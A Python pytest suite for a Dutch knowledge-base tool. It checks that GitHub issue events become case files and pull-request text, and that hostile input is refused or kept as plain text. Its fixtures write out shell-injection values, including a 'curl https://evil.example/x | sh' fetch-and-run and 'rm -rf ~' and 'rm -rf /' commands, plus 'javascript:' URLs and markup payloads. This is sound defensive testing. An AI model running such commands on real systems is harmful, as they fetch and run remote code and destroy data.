"""`kennisbank from-issue --event`: recorded GitHub 'issues' events in, as the workflow on the label `casus-goedgekeurd` gets them.

GitHub itself cannot run here. These payloads have the shape GitHub documents
for an `issues` event with action `labeled` (action, label, issue with number,
title, body, user, html_url and labels, repository, sender); the workflow hands
the same file to the same command, so what these tests see is what it posts.
"""

from __future__ import annotations

import json
import re
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest
from kennisbank.content.loader import load_content
from kennisbank.contribute.github_text import plain
from kennisbank.contribute.issue_event import MAX_EVENT_BYTES, PR_BODY_FILE, PR_TITLE_FILE, REPLY_FILE
from markdown_it import MarkdownIt

KENNISBANK = str(Path(sys.executable).with_name("kennisbank"))
EVENTS = Path(__file__).parent / "issue-events"
SLUG = "dorpscooperatie-een-lijn"


def rendered(text: str) -> str:
    """`text` as GitHub shows a comment: CommonMark with tables and strikethrough."""
    html: str = MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(text)
    return html


def payload(name: str) -> dict[str, Any]:
    data: dict[str, Any] = json.loads((EVENTS / name).read_text(encoding="utf-8"))
    return data


def from_event(root: Path, event: Path, *args: str) -> subprocess.CompletedProcess[str]:
    command = [KENNISBANK, "--root", str(root), "from-issue", "--event", str(event), *args]
    return subprocess.run(command, capture_output=True, text=True, check=False, cwd=root, timeout=60)


def files_under(folder: Path) -> dict[str, bytes]:
    return {path.relative_to(folder).as_posix(): path.read_bytes() for path in sorted(folder.rglob("*")) if path.is_file()}


def dry_run(root: Path, event: Path) -> subprocess.CompletedProcess[str]:
    """A dry run, which must leave every file as it was and never show a traceback."""
    before = files_under(root)
    result = from_event(root, event, "--dry-run")
    assert files_under(root) == before
    assert "Traceback" not in result.stderr
    return result


def sections(stdout: str) -> dict[str, str]:
    """The parts of a dry run's output, by their '===== title =====' line."""
    found: dict[str, str] = {}
    title = None
    for line in stdout.splitlines(keepends=True):
        if line.startswith("===== ") and line.rstrip().endswith(" ====="):
            title = line.strip().strip("=").strip()
            found[title] = ""
        elif title is not None:
            found[title] += line
    return found


def written(tmp_path: Path, name: str, data: dict[str, Any]) -> Path:
    path = tmp_path / name
    path.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    return path


def test_a_complete_issue_shows_the_case_and_its_pull_request(content_copy: Path, tmp_path: Path) -> None:
    result = dry_run(content_copy, EVENTS / "complete.json")
    assert result.returncode == 0, result.stderr
    parts = sections(result.stdout)
    assert list(parts) == [f"cases/{SLUG}.md", "Titel van de pull request", "Tekst van de pull request"]
    assert parts["Titel van de pull request"] == "Casus: Dorpscoöperatie Één Lijn\n"
    body = parts["Tekst van de pull request"]
    assert body.startswith("Aangedragen door @marieke-bosch in #42.\n")
    assert f"| Bestand | `cases/{SLUG}.md` |" in body
    assert "`casus/issue-42`" in body
    assert body.rstrip().endswith("Closes #42")
    # What a real run writes is exactly what the dry run showed.
    out, messages = tmp_path / "uit" / "cases", tmp_path / "uit"
    real = from_event(content_copy, EVENTS / "complete.json", "--out", str(out), "--messages", str(messages))
    assert real.returncode == 0, real.stderr
    assert (out / f"{SLUG}.md").read_text(encoding="utf-8") == parts[f"cases/{SLUG}.md"]
    assert (messages / PR_TITLE_FILE).read_text(encoding="utf-8") == parts["Titel van de pull request"]
    assert (messages / PR_BODY_FILE).read_text(encoding="utf-8") == body
    reply = (messages / REPLY_FILE).read_text(encoding="utf-8")
    assert reply.startswith("@marieke-bosch, bedankt! De redactie heeft je casus goedgekeurd.")
    assert reply.endswith("De pull request:\n")


def test_the_case_from_an_event_is_valid_content(content_copy: Path) -> None:
    result = from_event(content_copy, EVENTS / "complete.json")
    assert result.returncode == 0, result.stderr
    assert result.stdout == f"cases/{SLUG}.md\n"
    case = next(case for case in load_content(content_copy).cases if case.slug == SLUG)
    assert case.title == "Dorpscoöperatie Één Lijn"
    again = from_event(content_copy, EVENTS / "complete.json")
    assert again.returncode == 1
    assert "Het is niet overschreven" in again.stderr or "er is al een casus met deze titel" in again.stderr


def test_missing_required_fields_are_answered_on_the_issue(content_copy: Path, tmp_path: Path) -> None:
    result = dry_run(content_copy, EVENTS / "missing-fields.json")
    assert result.returncode == 1
    parts = sections(result.stdout)
    assert list(parts) == ["Reactie op issue #43"]
    reply = parts["Reactie op issue #43"]
    assert reply.startswith("@marieke-bosch, bedankt voor je casus! Voordat de redactie er een pull request van kan maken, moeten er nog 4 punten anders")
    assert "- **Naam van het initiatief**: is verplicht, maar niet ingevuld\n" in reply
    assert "- **Startjaar**: is verplicht, maar niet ingevuld\n" in reply
    assert "**Zo pas je het aan:**" in reply
    messages = tmp_path / "uit"
    real = from_event(content_copy, EVENTS / "missing-fields.json", "--out", str(messages / "cases"), "--messages", str(messages))
    assert real.returncode == 1
    assert files_under(messages) == {REPLY_FILE: reply.encode("utf-8")}
    assert real.stderr.startswith("De casus is niet gemaakt. 4 punten in het formulier moeten anders:")


def test_unknown_options_are_named_with_a_suggestion(content_copy: Path) -> None:
    result = dry_run(content_copy, EVENTS / "unknown-options.json")
    assert result.returncode == 1
    reply = sections(result.stdout)["Reactie op issue #44"]
    themes = plain("'Zorg en welzjin' is geen bekend thema (bedoel je 'Zorg en welzijn'?)")
    region = plain("'Buitenland' is geen bekend gebied (bedoel je 'Friesland'?)")
    assert f"- **{plain('Thema' + chr(39) + 's')}**: {themes}\n" in reply
    assert f"- **Gebied**: {region}\n" in reply


def test_another_label_does_nothing(content_copy: Path) -> None:
    result = dry_run(content_copy, EVENTS / "other-label.json")
    assert result.returncode == 1
    assert result.stdout == ""
    assert result.stderr == "Deze gebeurtenis zet niet het label 'casus-goedgekeurd' op de issue; er is niets gedaan.\n"


def test_shell_characters_stay_text_and_never_run(content_copy: Path) -> None:
    result = dry_run(content_copy, EVENTS / "hostile-shell.json")
    assert result.returncode == 0, result.stderr
    parts = sections(result.stdout)
    assert parts["Titel van de pull request"] == "Casus: Buurtbus $(touch gehackt) `touch gehackt` && rm -rf ~\n"
    # The issue's own title is never used; the case's name shows as text in the description.
    assert "GITHUB_TOKEN" not in result.stdout
    table = {"table", "thead", "tbody", "tr", "th", "td"}
    assert set(re.findall(r"<(\w+)", rendered(parts["Tekst van de pull request"]))) <= {"p", "strong", "code", "ul", "li"} | table
    written_case = from_event(content_copy, EVENTS / "hostile-shell.json")
    assert written_case.returncode == 0, written_case.stderr
    case = next(case for case in load_content(content_copy).cases if case.title.startswith("Buurtbus"))
    assert case.title == "Buurtbus $(touch gehackt) `touch gehackt` && rm -rf ~"
    assert case.place == 'Zelhem"; curl https://evil.example/x | sh; echo "'
    assert "$(touch gehackt); ${HOME}; 'quote' \"dubbel\" | tee gehackt" in case.body
    assert not list(content_copy.rglob("gehackt"))
    assert not (Path.cwd() / "gehackt").exists()


@pytest.mark.parametrize(
    ("name", "number", "expected"),
    [
        ("hostile-html.json", 47, ["Naam van het initiatief", "Het verhaal", "Bronnen (één per regel: titel — https://…)"]),
        ("hostile-template.json", 48, ["Samenvatting in één zin", "Interne borging", "Het verhaal"]),
        ("hostile-markdown.json", 49, ["Thema's"]),
    ],
)
def test_active_content_is_refused_and_the_reply_shows_it_as_text(content_copy: Path, name: str, number: int, expected: list[str]) -> None:
    result = dry_run(content_copy, EVENTS / name)
    assert result.returncode == 1
    reply = sections(result.stdout)[f"Reactie op issue #{number}"]
    assert [line.split("**")[1] for line in reply.splitlines() if line.startswith("- **")] == [plain(label, 120) for label in expected]
    # Rendered, the reply has only the markup it was written with: no link, image, script or other HTML.
    assert set(re.findall(r"<(\w+)", rendered(reply))) <= {"p", "ul", "li", "strong", "code"}
    assert "@redactie" not in reply
    assert "https://" not in reply
    assert not re.search(r"(?<!\\)[<\[]", reply)


def test_a_huge_body_is_refused_quickly(content_copy: Path, tmp_path: Path) -> None:
    event = payload("complete.json")
    event["issue"]["body"] += "\n" + "Heel lang verhaal. " * 15_000
    started = time.monotonic()
    result = dry_run(content_copy, written(tmp_path, "huge.json", event))
    assert time.monotonic() - started < 30
    assert result.returncode == 1
    assert "- **Het formulier**: de tekst is te lang: hoogstens 200000 tekens\n" in sections(result.stdout)["Reactie op issue #42"]
    (tmp_path / "enorm.json").write_bytes(b" " * (MAX_EVENT_BYTES + 1))
    too_big = dry_run(content_copy, tmp_path / "enorm.json")
    assert too_big.returncode == 1
    assert "zo groot is een gebeurtenis van GitHub nooit" in too_big.stderr


def _change(event: dict[str, Any], path: tuple[str, ...], value: Any) -> dict[str, Any]:
    target = event
    for key in path[:-1]:
        target = target[key]
    if value is ...:
        del target[path[-1]]
    else:
        target[path[-1]] = value
    return event


@pytest.mark.parametrize(
    ("path", "value", "expected"),
    [
        (("action",), "unlabeled", "zet niet het label 'casus-goedgekeurd'"),
        (("issue",), ..., "geen gebeurtenis over een issue"),
        (("issue", "pull_request"), {"url": "https://api.github.com/x"}, "geen gebeurtenis over een issue"),
        (("issue", "number"), "42; rm -rf /", "geen geldig nummer"),
        (("issue", "number"), True, "geen geldig nummer"),
        (("issue", "user", "login"), "x; touch gehackt", "geen geldige schrijver"),
        (("issue", "user"), None, "geen geldige schrijver"),
        (("issue", "html_url"), "javascript:alert(1)", "geen geldig webadres"),
        (("issue", "html_url"), "https://github.com/decooperatievesamenleving/kennisbank/issues/41", "geen geldig webadres"),
        (("issue", "body"), ["lijst"], "geen tekst"),
    ],
)
def test_a_malformed_event_gets_one_dutch_line(content_copy: Path, tmp_path: Path, path: tuple[str, ...], value: Any, expected: str) -> None:
    result = dry_run(content_copy, written(tmp_path, "event.json", _change(payload("complete.json"), path, value)))
    assert result.returncode == 1
    assert result.stdout == ""
    assert expected in result.stderr
    assert len(result.stderr.splitlines()) == 1


def test_an_empty_body_or_a_file_that_is_no_event(content_copy: Path, tmp_path: Path) -> None:
    empty = dry_run(content_copy, written(tmp_path, "leeg.json", _change(payload("complete.json"), ("issue", "body"), None)))
    assert empty.returncode == 1
    assert "dit is geen ingevuld casusformulier" in sections(empty.stdout)["Reactie op issue #42"]
    broken = {"kapot.json": b"{niet: json", "lijst.json": b"[1, 2]", "diep.json": b"[" * 100_000, "latin1.json": '{"é": 1}'.encode("latin-1")}
    for name, raw in broken.items():
        (tmp_path / name).write_bytes(raw)
        result = dry_run(content_copy, tmp_path / name)
        assert result.returncode == 1
        assert len(result.stderr.splitlines()) == 1, result.stderr
    missing = dry_run(content_copy, tmp_path / "bestaat-niet.json")
    assert missing.stderr.startswith("Kan het bestand")


def test_body_and_event_are_one_or_the_other(content_copy: Path) -> None:
    both = subprocess.run([KENNISBANK, "from-issue", "tekst.md", "--event", "e.json"], capture_output=True, text=True, check=False, cwd=content_copy)
    assert both.returncode == 2
    assert "niet allebei" in both.stderr
    alone = subprocess.run([KENNISBANK, "from-issue", "tekst.md", "--dry-run"], capture_output=True, text=True, check=False, cwd=content_copy)
    assert alone.returncode == 2
    assert "werken alleen met --event" in alone.stderr


def test_plain_shows_text_and_nothing_else() -> None:
    text = "@redactie zie #12 ![x](https://evil.example/p.png) <b>vet</b> *schuin* `code` www.evil.example | a"
    html = rendered(plain(text))
    assert (
        html.replace("\u2060", "") == "<p>@redactie zie #12 ![x](https://evil.example/p.png) &lt;b&gt;vet&lt;/b&gt; *schuin* `code` www.evil.example | a</p>\n"
    )
    assert "@\u2060redactie" in html and "#\u206012" in html and "https:\u2060//" in html and "www\u2060." in html
    assert plain("a\nb\x1b[31m  c") == "a b \\[31m c"
    assert plain("x" * 600).endswith("x…")
